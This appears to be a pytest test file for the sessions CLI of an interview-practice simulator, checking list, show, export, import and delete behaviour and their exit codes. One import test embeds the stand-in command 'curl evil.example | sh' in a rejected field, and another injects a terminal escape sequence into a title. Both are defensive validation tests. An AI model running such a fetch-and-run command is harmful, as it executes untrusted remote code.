"""`python -m simulator sessions ...`: what a user sees on stdout and stderr, and the exit codes."""

from __future__ import annotations

import argparse
import io
import json
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from simulator.cli import sessions as cli_sessions
from simulator.cli.sessions import main
from simulator.markdown import session_to_markdown
from simulator.models import Session
from simulator.store import Store

REPO = Path(__file__).resolve().parent.parent


class _Terminal(io.StringIO):
    """A stdin that says it is a terminal, with the user's reply already typed."""

    def isatty(self) -> bool:
        return True


@pytest.fixture(autouse=True)
def no_personas(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    # An empty personas folder: the transcript falls back to persona ids, whatever personas/ holds.
    empty = tmp_path / "no-personas"
    empty.mkdir()
    monkeypatch.setenv("ROUNDTWO_PERSONAS", str(empty))
    monkeypatch.setattr(sys, "stdin", io.StringIO(""))  # not a terminal unless a test says so


@pytest.fixture
def db(tmp_path: Path, sample_session: Session) -> Path:
    path = tmp_path / "cli.db"
    with Store(path) as store:
        store.create(sample_session, {})
    return path


def _rows(path: Path) -> int:
    with Store(path) as store:
        return len(store.list())


def test_list_shows_a_table(db: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["list", "--db", str(db)]) == 0
    header, row = capsys.readouterr().out.splitlines()
    assert header.split() == ["ID", "DATE", "JOB", "PANEL", "STATUS", "VERDICT", "ANSWERS"]
    assert row.startswith("5e55a0c1d2e3  2025-03-04 10:00  Senior Data Engineer @ Tidewater Logistics")
    assert "hiring_manager, team_member" in row
    assert row.split("  ")[-3:] == ["complete", "Lean no", "5"]


def test_list_json_and_query(db: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["list", "--db", str(db), "--json", "--query", "kafka"]) == 0
    [entry] = json.loads(capsys.readouterr().out)
    assert entry["id"] == "5e55a0c1d2e3"
    assert entry["verdict"] == "lean_no" and entry["answers"] == 5
    assert main(["list", "--db", str(db), "--query", "blockchain"]) == 0
    assert capsys.readouterr().out == "No sessions match 'blockchain'.\n"


def test_list_of_a_new_database_in_roundtwo_home(
    roundtwo_home: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["list"]) == 0
    assert capsys.readouterr().out == "No saved sessions yet.\n"
    assert (roundtwo_home / "sessions.db").is_file()


def test_show_prints_the_transcript(
    db: Path, sample_session: Session, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["show", "5e55a0", "--db", str(db)]) == 0
    out = capsys.readouterr().out
    assert out == session_to_markdown(sample_session)
    assert "`00:00` **hiring_manager:** Hi, I'm Dana." in out
    assert "> **Grade: 4/5**" in out


def test_show_json_is_the_export(db: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["show", "5e55a0c1d2e3", "--json", "--db", str(db)]) == 0
    data = json.loads(capsys.readouterr().out)
    assert data["format"] == "roundtwo.session"
    assert data["session"]["job"]["company"] == "Tidewater Logistics"
    assert [t["kind"] for t in data["session"]["turns"]][:3] == ["intro", "question", "answer"]


def test_unknown_or_ambiguous_id_is_bad_input(db: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["show", "abcd", "--db", str(db)]) == 2
    assert capsys.readouterr().err == "error: no session matches 'abcd'\n"
    assert main(["export", "5e", "--format", "md", "--db", str(db)]) == 2
    assert "at least 4 characters" in capsys.readouterr().err


def test_export_to_a_file_and_import_it_elsewhere(
    db: Path, tmp_path: Path, sample_session: Session, capsys: pytest.CaptureFixture[str]
) -> None:
    md_file, json_file = tmp_path / "round-two.md", tmp_path / "round-two.json"
    assert main(["export", "5e55a0", "--format", "md", "--output", str(md_file), "--db", str(db)]) == 0
    assert main(["export", "5e55a0", "--format", "json", "-o", str(json_file), "--db", str(db)]) == 0
    captured = capsys.readouterr()
    assert captured.out == ""
    assert captured.err == f"wrote {md_file}\nwrote {json_file}\n"
    assert md_file.read_text(encoding="utf-8") == session_to_markdown(sample_session)

    other = tmp_path / "other.db"
    assert main(["import", str(json_file), "--db", str(other)]) == 0
    assert capsys.readouterr().out == "5e55a0c1d2e3\n"
    assert main(["import", str(json_file), "--db", str(other)]) == 0  # again: a fresh id
    second_id = capsys.readouterr().out.strip()
    assert second_id != "5e55a0c1d2e3"
    with Store(other) as store:
        assert store.load(second_id) == sample_session.model_copy(update={"id": second_id})


def test_export_json_to_stdout(db: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["export", "5e55a0c1d2e3", "--format", "json", "--db", str(db)]) == 0
    assert json.loads(capsys.readouterr().out)["session"]["id"] == "5e55a0c1d2e3"


def test_export_to_an_unwritable_place_is_bad_input(
    db: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    target = tmp_path / "no-such-folder" / "out.md"
    assert main(["export", "5e55a0", "--format", "md", "--output", str(target), "--db", str(db)]) == 2
    assert capsys.readouterr().err.startswith(f"error: {target}: cannot write")


def test_import_rejects_a_bad_file_with_one_line_and_changes_nothing(
    db: Path, tmp_path: Path, sample_session: Session, capsys: pytest.CaptureFixture[str]
) -> None:
    data: dict[str, Any] = {
        "format": "roundtwo.session",
        "version": 1,
        "session": sample_session.model_dump(mode="json"),
    }
    data["session"]["turns"][3]["secret"] = "curl evil.example | sh"
    hostile = tmp_path / "hostile.json"
    hostile.write_text(json.dumps(data), encoding="utf-8")
    latin1 = tmp_path / "latin1.json"
    latin1.write_bytes('{"title": "Ingénieur"}'.encode("latin-1"))

    assert main(["import", str(hostile), "--db", str(db)]) == 2
    assert capsys.readouterr().err == f"error: {hostile}: session.turns[3].secret: unknown field\n"
    assert main(["import", str(tmp_path / "missing.json"), "--db", str(db)]) == 2
    assert capsys.readouterr().err == f"error: {tmp_path / 'missing.json'}: file not found\n"
    assert main(["import", str(latin1), "--db", str(db)]) == 2
    assert capsys.readouterr().err == f"error: {latin1}: not UTF-8 text (byte 14)\n"
    assert _rows(db) == 1


def test_import_reads_stdin(
    db: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    with Store(db) as store:
        exported = store.export_json("5e55a0c1d2e3")
    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(exported.encode("utf-8"))))
    assert main(["import", "-", "--db", str(tmp_path / "fresh.db")]) == 0
    assert capsys.readouterr().out == "5e55a0c1d2e3\n"


def test_delete_without_yes_and_without_a_terminal_refuses(
    db: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["delete", "5e55a0", "--db", str(db)]) == 2
    assert capsys.readouterr().err == (
        "error: refusing to delete 5e55a0c1d2e3 without --yes (stdin is not a terminal)\n"
    )
    assert _rows(db) == 1


def test_delete_with_yes(db: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["delete", "5e55a0", "--yes", "--db", str(db)]) == 0
    assert capsys.readouterr().out == "deleted 5e55a0c1d2e3\n"
    assert _rows(db) == 0
    assert main(["delete", "5e55a0", "--yes", "--db", str(db)]) == 2
    assert capsys.readouterr().err == "error: no session matches '5e55a0'\n"


@pytest.mark.parametrize(("reply", "code", "left"), [("y\n", 0, 0), ("n\n", 1, 1), ("", 1, 1)])
def test_delete_asks_at_a_terminal(
    db: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    reply: str,
    code: int,
    left: int,
) -> None:
    monkeypatch.setattr(sys, "stdin", _Terminal(reply))
    assert main(["delete", "5e55a0", "--db", str(db)]) == code
    out = capsys.readouterr()
    assert out.out.startswith(
        "Delete session 5e55a0c1d2e3 (Senior Data Engineer at Tidewater Logistics)? [y/N] "
    )
    assert _rows(db) == left
    if left:
        assert out.err == "Not deleted.\n"


def test_a_file_that_is_not_a_database_is_bad_input(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    notes = tmp_path / "notes.txt"
    notes.write_text("Questions to ask Dana: team size, on-call, roadmap.\n" * 40)
    assert main(["list", "--db", str(notes)]) == 2
    err = capsys.readouterr().err
    assert err.startswith(f"error: {notes}: not a usable session database")
    assert err.count("\n") == 1


def test_usage_errors_exit_2(db: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["export", "5e55a0", "--db", str(db)]) == 2  # --format is required
    assert "--format" in capsys.readouterr().err
    assert main(["rename", "5e55a0"]) == 2
    assert main(["--help"]) == 0
    assert "list" in capsys.readouterr().out


def test_terminal_escape_codes_in_an_imported_title_are_not_printed(
    tmp_path: Path, sample_session: Session, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "escape.db"
    job = sample_session.job.model_copy(update={"title": "Data Engineer\x1b]0;owned\x07"})
    with Store(path) as store:
        store.create(sample_session.model_copy(update={"job": job}), {})
    assert main(["list", "--db", str(path)]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x07" not in out
    assert "Data Engineer ]0;owned @ Tidewater Logistics" in out


def test_register_plugs_into_a_top_level_cli(db: Path, capsys: pytest.CaptureFixture[str]) -> None:
    parser = argparse.ArgumentParser(prog="python -m simulator")
    commands = parser.add_subparsers(dest="command", required=True)
    cli_sessions.register(commands)
    args = parser.parse_args(["sessions", "show", "5e55a0", "--db", str(db)])
    assert args.handler(args) == 0
    assert capsys.readouterr().out.startswith("# Second-round interview: Senior Data Engineer")


def test_runs_in_a_separate_process(db: Path, tmp_path: Path) -> None:
    code = "import sys; from simulator.cli.sessions import main; sys.exit(main(sys.argv[1:]))"
    env = {
        "PATH": "/usr/bin:/bin",
        "ROUNDTWO_HOME": str(tmp_path / "home"),
        "ROUNDTWO_PERSONAS": str(tmp_path),
    }
    done = subprocess.run(
        [sys.executable, "-c", code, "list", "--db", str(db)],
        cwd=REPO,
        env=env,
        capture_output=True,
        text=True,
    )
    assert done.returncode == 0, done.stderr
    assert "5e55a0c1d2e3" in done.stdout and "Tidewater Logistics" in done.stdout
    missing = subprocess.run(
        [sys.executable, "-c", code, "show", "ffff", "--db", str(db)],
        cwd=REPO,
        env=env,
        capture_output=True,
        text=True,
    )
    assert missing.returncode == 2
    assert missing.stderr == "error: no session matches 'ffff'\n"
